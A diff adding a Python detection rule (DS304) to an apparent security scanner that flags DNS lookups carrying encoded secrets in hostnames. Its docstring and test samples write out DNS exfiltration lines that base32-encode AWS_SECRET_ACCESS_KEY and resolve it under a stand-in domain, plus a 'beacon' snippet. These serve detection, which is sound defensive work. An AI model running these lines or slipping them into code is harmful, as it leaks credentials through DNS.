@@ -1,0 +1,137 @@
+"""DS304 dns-exfiltration: data encoded into a hostname that is then resolved."""
+
+from __future__ import annotations
+
+import libcst as cst
+
+from datasec_scan.model import Category, Confidence, Severity
+from datasec_scan.rule import Rule
+from datasec_scan.semantics.constants import fold_str
+
+from ._outbound import CRITICAL_LABELS, Analyzer, label_severity, label_text
+
+_ENCODERS = ("b64encode", "b32encode", "b16encode", "urlsafe_b64encode", "hexlify", "hex", "b85encode", "encode")
+
+
+class DnsExfiltration(Rule):
+    """Data is smuggled out inside a DNS name: a hostname built from data, with a constant domain, is resolved.
+
+    ## What it does
+    Looks at DNS lookups (`socket.gethostbyname`, `getaddrinfo`, `gethostbyname_ex`,
+    `dns.resolver.resolve`/`query`, `aiodns`) whose name is built — f-string, `+`, `%`,
+    `.format`, `".".join(...)` — from a non-constant part followed by a constant domain
+    (`f"{chunk}.t.example.net"`). It reports when that part carries sensitive data (DS301's sources:
+    environment, credential files, host fingerprints...) or is encoded (`base64`/`base32`/hex).
+    Resolving the machine's own name (`gethostbyname(socket.gethostname())`) is not reported.
+
+    Severity: **critical** for credentials and secrets, **high** for other sensitive data,
+    **medium** for an encoded value whose origin is not known.
+
+    ## Why is this bad?
+    DNS queries leave almost every network, even ones that block outbound HTTP; the authoritative
+    server of the attacker's zone receives each label. It is a classic covert channel for stealers
+    and for beacons that announce a new victim.
+
+    ## Example
+    ```python
+    import base64, os, socket
+    data = base64.b32encode(os.environ["AWS_SECRET_ACCESS_KEY"].encode()).decode().strip("=")
+    socket.gethostbyname(f"{data}.x.example.net")
+    ```
+
+    ## How to fix
+    Remove the lookup. Names a program resolves should be configuration, not data.
+
+    ## References
+    - CWE-200: Exposure of Sensitive Information to an Unauthorized Actor
+    - MITRE ATT&CK T1048.003 Exfiltration Over Unencrypted Non-C2 Protocol, T1071.004 DNS
+    """
+
+    code = "DS304"
+    name = "dns-exfiltration"
+    category = Category.OUTBOUND_DATA
+    severity = Severity.HIGH
+    confidence = Confidence.HIGH
+    cwe = (200,)
+    attack = ("T1048.003", "T1071.004")
+    VALID = (
+        "import socket\nsocket.gethostbyname(socket.gethostname())\n",
+        "import socket\nsocket.getaddrinfo('example.com', 443)\n",
+        "import socket\ndef lookup(host):\n    return socket.gethostbyname(host)\n",
+        "import socket\nregion = 'eu'\nsocket.gethostbyname(f'api.{region}.example.com')\n",
+    )
+    INVALID = (
+        "import os, socket\nsocket.gethostbyname(os.environ['AWS_SECRET_ACCESS_KEY'] + '.x.example.net')\n",
+        ("import base64, socket\ndef beacon(data):\n    socket.gethostbyname(base64.b32encode(data).decode() + "
+         "'.x.example.net')\n"),
+    )
+
+    def visit_Call(self, node: cst.Call) -> None:
+        analyzer = Analyzer.of(self.context)
+        sink = analyzer.sink(node)
+        if sink is None or not sink.spec.dns:
+            return
+        name = sink.destination_expr
+        if name is None or not self._composite_with_domain(analyzer, name):
+            return
+        taints = analyzer.flow.taints(name, analyzer.classify)
+        if taints:
+            taint = max(taints, key=lambda t: (label_severity(t.label), -len(t.steps)))
+            kind = taint.label.split(":", 1)[0]
+            severity = Severity.CRITICAL if kind in CRITICAL_LABELS or kind in ("env-secret", "environment") else \
+                Severity.HIGH
+            self.report(node, f"{label_text(taint.label)} is encoded into a DNS name resolved by {sink.method}()",
+                        severity=severity, flow=taint.steps + ((node, f"sink: resolved by {sink.method}()"),))
+        elif self._encoded(name):
+            self.report(node, f"encoded data is put into a DNS name resolved by {sink.method}()",
+                        severity=Severity.MEDIUM, confidence=Confidence.MEDIUM)
+
+    @staticmethod
+    def _composite_with_domain(analyzer: Analyzer, expr: cst.BaseExpression, depth: int = 0) -> bool:
+        """A name with a non-constant part followed by a constant domain suffix ("….x.example.net")."""
+        if depth > 3:
+            return False
+        names = analyzer.names
+        if fold_str(expr, names) is not None:
+            return False
+        if isinstance(expr, (cst.Name, cst.Attribute)):
+            values = analyzer.flow.values_of(expr)
+            return len(values) == 1 and DnsExfiltration._composite_with_domain(analyzer, values[0], depth + 1)
+        suffix = None
+        if isinstance(expr, cst.FormattedString):
+            suffix = ""
+            for part in reversed(expr.parts):
+                text = part.value if isinstance(part, cst.FormattedStringText) else fold_str(
+                    part.expression, names)  # type: ignore[union-attr]
+                if text is None:
+                    break
+                suffix = text + suffix
+        elif isinstance(expr, cst.BinaryOperation) and isinstance(expr.operator, cst.Add):
+            suffix = fold_str(expr.right, names)
+        elif isinstance(expr, cst.BinaryOperation) and isinstance(expr.operator, cst.Modulo):
+            fmt = fold_str(expr.left, names)
+            suffix = fmt.rsplit("%s", 1)[-1] if fmt and "%s" in fmt else None
+        elif isinstance(expr, cst.Call) and isinstance(expr.func, cst.Attribute):
+            if expr.func.attr.value == "format":
+                fmt = fold_str(expr.func.value, names)
+                suffix = fmt.rsplit("}", 1)[-1] if fmt and "}" in fmt else None
+            elif expr.func.attr.value == "join" and fold_str(expr.func.value, names) == "." and expr.args:
+                seq = expr.args[0].value
+                if isinstance(seq, (cst.List, cst.Tuple)) and seq.elements:
+                    suffix = "." + (fold_str(seq.elements[-1].value, names) or "")
+        return bool(suffix) and "." in suffix.strip(".") or bool(suffix and suffix.startswith(".") and len(suffix) > 3)
+
+    @staticmethod
+    def _encoded(expr: cst.BaseExpression) -> bool:
+        found = False
+
+        class _Calls(cst.CSTVisitor):
+            def visit_Call(self, node: cst.Call) -> None:
+                nonlocal found
+                if isinstance(node.func, (cst.Attribute, cst.Name)):
+                    name = node.func.attr.value if isinstance(node.func, cst.Attribute) else node.func.value
+                    if name in _ENCODERS and name != "encode":
+                        found = True
+
+        expr.visit(_Calls())
+        return found
